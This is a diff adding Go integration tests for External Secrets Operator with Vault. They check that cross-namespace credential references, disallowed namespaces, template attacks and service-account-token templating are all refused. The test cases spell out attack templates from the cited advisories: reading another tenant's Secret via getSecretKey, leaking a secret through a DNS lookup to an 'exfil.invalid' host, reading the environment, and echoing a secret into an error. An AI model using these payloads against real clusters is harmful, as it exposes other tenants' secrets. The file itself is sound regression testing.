@@ -1,0 +1,297 @@
+package externalsecrets_test
+
+import (
+	"fmt"
+	"strconv"
+	"strings"
+	"testing"
+
+	corev1 "k8s.io/api/core/v1"
+	utilrand "k8s.io/apimachinery/pkg/util/rand"
+	"sigs.k8s.io/controller-runtime/pkg/client"
+)
+
+// TestStoreRefusesCrossNamespaceCredentials points namespaced
+// SecretStores at credentials in another namespace, the shape ESO's own
+// vault-token-store.yaml snippet once showed (tokenSecretRef.namespace
+// "secret-admin" on a SecretStore) and ESO refuses since 2.4.0 (#6313):
+// each store is refused with a status that says why, its ExternalSecret
+// does not sync, and Vault is never asked anything, which it would be had
+// the credentials been read.
+func TestStoreRefusesCrossNamespaceCredentials(t *testing.T) {
+	_, v := requireEnv(t)
+	resetKV(t, v, 2)
+	put(t, v, "victim", map[string]any{"value": value("victim")})
+	role, err := v.CreateAppRole(t.Context(), "victim", readerPolicy)
+	if err != nil {
+		t.Fatal(err)
+	}
+	secrets.add("an AppRole secret ID", role.SecretID)
+	s := setup(t, 2)
+	tenant, victim := s.ns[0], s.ns[1]
+	s.apply(victim, fmt.Sprintf(`apiVersion: v1
+kind: Secret
+metadata:
+  name: vault-credentials
+stringData:
+  token: %s
+  secret-id: %s
+---
+apiVersion: v1
+kind: ConfigMap
+metadata:
+  name: vault-ca
+data:
+  ca.crt: not a certificate
+`, readerToken(t, v), role.SecretID))
+	serviceAccount(t, s, victim, "vault-reader", true)
+
+	const foreign = "namespace should either be empty or match the namespace of the SecretStore for a namespaced SecretStore"
+	stores := []struct{ name, auth, msg string }{
+		{name: "token", msg: foreign, auth: fmt.Sprintf(`
+      auth:
+        tokenSecretRef:
+          name: vault-credentials
+          namespace: %s
+          key: token`, victim)},
+		{name: "approle", msg: foreign, auth: fmt.Sprintf(`
+      auth:
+        appRole:
+          path: approle
+          roleId: %s
+          secretRef:
+            name: vault-credentials
+            namespace: %s
+            key: secret-id`, role.RoleID, victim)},
+		{name: "kubernetes", msg: foreign, auth: fmt.Sprintf(`
+      auth:
+        kubernetes:
+          mountPath: kubernetes
+          role: demo
+          serviceAccountRef:
+            name: vault-reader
+            namespace: %s`, victim)},
+		// CVE-2026-42875 (GHSA-wv26-88m5-6h59): a CA from another
+		// namespace's ConfigMap.
+		{name: "ca-provider", msg: "a SecretStore reads only its own namespace", auth: fmt.Sprintf(`
+      caProvider:
+        type: ConfigMap
+        name: vault-ca
+        namespace: %s
+        key: ca.crt
+      auth:
+        tokenSecretRef:
+          name: vault-credentials
+          key: token`, victim)},
+	}
+	before := s.auditLog()
+	for _, st := range stores {
+		s.apply(tenant, fmt.Sprintf(`apiVersion: external-secrets.io/v1
+kind: SecretStore
+metadata:
+  name: %s
+spec:
+  provider:
+    vault:
+      server: %q
+      path: secret
+      version: v2%s
+`, st.name, v.Addr, st.auth))
+		s.apply(tenant, esFor(st.name, st.name, "victim", ""))
+	}
+	for _, st := range stores {
+		store := s.waitStore(tenant, st.name, corev1.ConditionFalse, st.msg)
+		t.Logf("store %s: %s", st.name, store.Status.Conditions[0].Message)
+		s.waitFailed(tenant, st.name, "SecretStore is not ready")
+	}
+	for _, st := range stores {
+		if s.secret(tenant, st.name) != nil {
+			t.Errorf("%s: a Secret was written", st.name)
+		}
+	}
+	if calls := s.auditSince(before); len(calls) != 0 {
+		t.Errorf("Vault was asked %d times with foreign credentials:\n%s", len(calls), calls)
+	}
+}
+
+// TestClusterSecretStoreConditions uses a ClusterSecretStore with the
+// conditions of ESO's full-cluster-secret-store.yaml from namespaces each
+// condition admits and one none does.
+func TestClusterSecretStoreConditions(t *testing.T) {
+	e, v := requireEnv(t)
+	resetKV(t, v, 2)
+	want := value("conditions")
+	put(t, v, "shared", map[string]any{"value": want})
+	listed := e.Namespace(t)
+	byLabel := namespace(t, e, "t-"+utilrand.String(8), map[string]string{"my.namespace.io/some-label": "value"})
+	byRegex := namespace(t, e, listed+"-generated", nil)
+	refused := e.Namespace(t)
+	admin := e.Namespace(t)
+	s := setupIn(t, e, v, auditPath, []string{listed, byLabel, byRegex, refused, admin})
+	s.apply(admin, "apiVersion: v1\nkind: Secret\nmetadata:\n  name: my-secret\nstringData:\n  vault-token: "+readerToken(t, v)+"\n")
+	name := "vault-" + listed
+	s.apply("", golden(t, "css-conditions.yaml", strings.NewReplacer(
+		"name: example\n", "name: "+name+"\n",
+		`"https://vault.acme.org"`, strconv.Quote(v.Addr),
+		`"secret-admin"`, strconv.Quote(admin),
+		"namespace-a", listed,
+		"namespace-b", "t-never-"+utilrand.String(8),
+	)))
+	for _, ns := range []string{listed, byLabel, byRegex, refused} {
+		s.apply(ns, esFor("app", "ClusterSecretStore/"+name, "shared", ""))
+	}
+	for _, ns := range []string{listed, byLabel, byRegex} {
+		s.waitSynced(ns, "app")
+		s.waitData(ns, "app", map[string]string{"value": want})
+	}
+	s.waitFailed(refused, "app", fmt.Sprintf(`using ClusterSecretStore %q from namespace %q: namespace not allowed by the ClusterSecretStore's conditions`, name, refused))
+	if s.secret(refused, "app") != nil {
+		t.Error("a Secret was written in the namespace the conditions refuse")
+	}
+}
+
+// templateES is an ExternalSecret named name whose template renders key
+// "out" with tmpl over the Vault secret at cve/app.
+func templateES(name, store, tmpl string) string {
+	return fmt.Sprintf(`apiVersion: external-secrets.io/v1
+kind: ExternalSecret
+metadata:
+  name: %s
+spec:
+  secretStoreRef:
+    name: %s
+  target:
+    template:
+      data:
+        out: %s
+  dataFrom:
+  - extract:
+      key: cve/app
+`, name, store, strconv.Quote(tmpl))
+}
+
+// TestTemplatesCannotReachOut reproduces the template attacks of ESO's
+// advisories: each ExternalSecret fails with a status naming the refused
+// function, writes nothing, and nothing it reached for shows up anywhere
+// (the suite's leak check covers statuses, events and logs).
+func TestTemplatesCannotReachOut(t *testing.T) {
+	_, v := requireEnv(t)
+	resetKV(t, v, 2)
+	put(t, v, "cve/app", map[string]any{"password": value("cve-password")})
+	s := setup(t, 2)
+	tenant, victim := s.ns[0], s.ns[1]
+	victimPassword := value("victim-password")
+	s.apply(victim, "apiVersion: v1\nkind: Secret\nmetadata:\n  name: db-credentials\nstringData:\n  password: "+victimPassword+"\n")
+	s.apply(tenant, tokenStore(t, v, "vault"))
+
+	cases := []struct{ name, template, msg string }{
+		// CVE-2026-22822 (GHSA-77v3-r3jw-j2v2): getSecretKey read any
+		// namespace's Secrets with the controller's rights. The attack of
+		// ESO #5690, pointed at another tenant.
+		{"cve-2026-22822-getsecretkey", `{{ getSecretKey "db-credentials" "` + victim + `" "password" }}`, `function "getSecretKey" not defined`},
+		// CVE-2026-34984 (GHSA-r2pg-r6h7-crf3): Sprig's getHostByName let a
+		// template leak a secret through a DNS lookup.
+		{"cve-2026-34984-gethostbyname", `{{ printf "%s.exfil.invalid" .password | getHostByName }}`, `function "getHostByName" not defined`},
+		// The controller's environment, removed from Sprig by ESO too.
+		{"env", `{{ env "HOME" }}`, `function "env" not defined`},
+		{"expandenv", `{{ expandenv "$HOME" }}`, `function "expandenv" not defined`},
+		// A template that puts a secret in its own error, to land it in
+		// the status and the event.
+		{"fail-with-the-secret", `{{ fail .password }}`, `error calling fail`},
+	}
+	for _, c := range cases {
+		s.apply(tenant, templateES(c.name, "vault", c.template))
+	}
+	for _, c := range cases {
+		es := s.waitFailed(tenant, c.name, c.msg)
+		t.Logf("%s: %s", c.name, readyOf(es).Message)
+		if s.secret(tenant, c.name) != nil {
+			t.Errorf("%s: a Secret was written", c.name)
+		}
+	}
+
+	// templateFrom has no way to name another namespace: the field does
+	// not exist, and a name resolves in the ExternalSecret's own.
+	crossNS := fmt.Sprintf(`apiVersion: external-secrets.io/v1
+kind: ExternalSecret
+metadata:
+  name: templatefrom-cross-namespace
+spec:
+  secretStoreRef:
+    name: vault
+  target:
+    template:
+      templateFrom:
+      - secret:
+          name: db-credentials
+          namespace: %s
+          items:
+          - key: password
+  dataFrom:
+  - extract:
+      key: cve/app
+`, victim)
+	if err := s.tryApply(tenant, crossNS); err == nil || !strings.Contains(err.Error(), `unknown field "spec.target.template.templateFrom[0].secret.namespace"`) {
+		t.Errorf("templateFrom.secret.namespace: %v, want the API server to refuse the field", err)
+	}
+	s.apply(tenant, strings.Replace(crossNS, "          namespace: "+victim+"\n", "", 1))
+	s.waitFailed(tenant, "templatefrom-cross-namespace", `secrets "db-credentials" not found`)
+	if s.secret(tenant, "templatefrom-cross-namespace") != nil {
+		t.Error("templateFrom: a Secret was written")
+	}
+}
+
+// TestServiceAccountTokenTemplateRefused reproduces CVE-2026-42876
+// (GHSA-fq7h-9x26-6j22): an ExternalSecret whose template makes a Secret
+// of type kubernetes.io/service-account-token naming a service account,
+// which Kubernetes' token controller fills with a long-lived token for it.
+// The API server refuses both forms with ESO's messages, and no such
+// Secret appears.
+func TestServiceAccountTokenTemplateRefused(t *testing.T) {
+	_, v := requireEnv(t)
+	s := setup(t, 1)
+	ns := s.ns[0]
+	s.apply(ns, tokenStore(t, v, "vault"))
+	serviceAccount(t, s, ns, "deployer", false)
+	for _, c := range []struct{ name, template, msg string }{
+		{"annotation", `
+      type: kubernetes.io/service-account-token
+      metadata:
+        annotations:
+          kubernetes.io/service-account.name: deployer`,
+			`template.type="kubernetes.io/service-account-token" with annotation "kubernetes.io/service-account.name" is not allowed`},
+		{"templatefrom-annotations", `
+      type: kubernetes.io/service-account-token
+      templateFrom:
+      - target: Annotations
+        literal: "kubernetes.io/service-account.name: deployer"`,
+			`template.type="kubernetes.io/service-account-token" with templateFrom target="Annotations" is not allowed`},
+	} {
+		err := s.tryApply(ns, fmt.Sprintf(`apiVersion: external-secrets.io/v1
+kind: ExternalSecret
+metadata:
+  name: %s
+spec:
+  secretStoreRef:
+    name: vault
+  target:
+    template:%s
+  data:
+  - secretKey: token
+    remoteRef:
+      key: anything
+`, c.name, c.template))
+		if err == nil || !strings.Contains(err.Error(), c.msg) {
+			t.Errorf("%s: %v, want the API server to refuse it: %s", c.name, err, c.msg)
+		}
+	}
+	var list corev1.SecretList
+	if err := s.e.Client.List(s.ctx(), &list, client.InNamespace(ns)); err != nil {
+		t.Fatal(err)
+	}
+	for _, sec := range list.Items {
+		if sec.Type == corev1.SecretTypeServiceAccountToken {
+			t.Errorf("service account token Secret %s exists", sec.Name)
+		}
+	}
+}
